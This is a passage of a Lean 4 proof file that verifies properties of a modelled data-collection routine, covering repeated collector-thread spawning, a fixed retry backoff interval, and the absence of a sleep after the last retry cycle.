        push_neg at hcon
        have := hfail m hcon
        rw [hm] at this
        cases this
      rw [hatt]
      exact List.mem_range.mpr (by omega)
  · intro cfg o catalog f hfail hc1
    have hc0 : loopCond cfg.max_retries 0 = true :=
      loopCond_of_le cfg.max_retries 0 1 (by omega) hc1
    have hnone : (runCycle (o 0) catalog).succeeded = none :=
      runCycle_allFail_none (o 0) catalog hfail
    unfold dataCollectionLoop
    rw [show f + 2 = (f + 1) + 1 from rfl,
      aux_step cfg o catalog (f + 1) 0 0 0 [] hc0 hnone hc1]
    constructor
    · exact aux_cycles_succ_ge cfg o catalog f 1 1 1 _ hc1
    · obtain ⟨t, ht⟩ :=
        aux_sleep_extends cfg o catalog (f + 1) 1 1 1 ([] ++ [backoffNext 1 cfg])
      rw [ht]
      simp

/-- C8 counterexample: starting from a host with no collector threads, one
call to `initialize_data_collection` leaves 1 collector thread and a second
call leaves 2 — the second call is not a no-op returning the existing
state. -/
theorem second_start_spawns_again :
    ((initialize_data_collection (⟨0, 0⟩ : HostState)).1).dataCollectors = 1 ∧
    ((initialize_data_collection (initialize_data_collection (⟨0, 0⟩ : HostState)).1).1).dataCollectors = 2 ∧
    (2 : Nat) ≠ 1 := by
  decide

/-- C8 (corrected): `initialize_data_collection` is not idempotent — every
call unconditionally spawns one more `DataCollector` thread (lines 64-69)
and returns `True`; two consecutive calls leave two collection loops
running.  No error is raised on a repeated call. -/
theorem start_spawns_unconditionally (s : HostState) :
    ((initialize_data_collection s).1).dataCollectors = s.dataCollectors + 1 ∧
    (initialize_data_collection s).2 = true ∧
    ((initialize_data_collection (initialize_data_collection s).1).1).dataCollectors =
      s.dataCollectors + 2 :=
  ⟨rfl, rfl, rfl⟩

/-- C9 (confirmed): the backoff schedule is the sleep at line 115 with the
constant duration `config["retry_interval"]`.  As a Lean function
`backoffNext` is pure by construction; its value is independent of the
attempt count and equals the configured base interval, and every sleep a
loop run records has exactly that duration. -/
theorem backoff_fixed_interval :
    (∀ (a b : Nat) (cfg : BenchmarkConfig), backoffNext a cfg = backoffNext b cfg) ∧
    (∀ (a : Nat) (cfg : BenchmarkConfig), backoffNext a cfg = cfg.retry_interval) ∧
    ∀ (cfg : BenchmarkConfig) (o : Nat → Nat → AttemptResult)
      (catalog : List TransportExec) (fuel d : Nat),
      d ∈ (dataCollectionLoop cfg o catalog fuel).sleepList → d = cfg.retry_interval := by
  refine ⟨fun _ _ _ => rfl, fun _ _ => rfl, ?_⟩
  intro cfg o catalog fuel d hd
  rcases aux_sleep_mem cfg o catalog fuel 0 0 0 [] d hd with h1 | h2
  · simp at h1
  · exact h2

/-- C10 (confirmed): with `max_retries = N` set and every cycle failing, the
run executes `N` cycles but records only `N - 1` sleeps — the guard at
line 114 repeats the `while` condition, so the backoff sleep is skipped
after the last permitted cycle and runs only when another cycle follows. -/
theorem no_sleep_after_last_cycle (cfg : BenchmarkConfig)
    (o : Nat → Nat → AttemptResult) (catalog : List TransportExec) (N fuel : Nat)
    (hmr : cfg.max_retries = some N)
    (hf : ∀ c i, isSuccess (o c i) = false)
    (hfuel : N < fuel) :
    (dataCollectionLoop cfg o catalog fuel).cycles = N ∧
    (dataCollectionLoop cfg o catalog fuel).sleepList =
      List.replicate (N - 1) cfg.retry_interval ∧
    (dataCollectionLoop cfg o catalog fuel).sleepList.length =
      (dataCollectionLoop cfg o catalog fuel).cycles - 1 := by
  unfold dataCollectionLoop
  rw [aux_allFail cfg o catalog N hmr hf fuel 0 0 0 [] (Nat.zero_le N) (by omega)]
  refine ⟨by simp, by simp, by simp⟩

/-- Witness for C10: `max_retries = 2`, every attempt refused: 2 cycles,
one recorded sleep of 30 seconds, no sleep after the final cycle. -/
theorem no_sleep_after_last_cycle_witness :
    (dataCollectionLoop (withMaxRetries 2) alwaysRefused DATA_TRANSPORT_METHODS 4).cycles = 2 ∧
    (dataCollectionLoop (withMaxRetries 2) alwaysRefused DATA_TRANSPORT_METHODS 4).sleepList =
      List.replicate (2 - 1) (withMaxRetries 2).retry_interval ∧
    (dataCollectionLoop (withMaxRetries 2) alwaysRefused DATA_TRANSPORT_METHODS 4).sleepList.length =
      (dataCollectionLoop (withMaxRetries 2) alwaysRefused DATA_TRANSPORT_METHODS 4).cycles - 1 :=
  no_sleep_after_last_cycle (withMaxRetries 2) alwaysRefused DATA_TRANSPORT_METHODS 2 4
    rfl (fun _ _ => rfl) (by omega)

end NetworkUtils
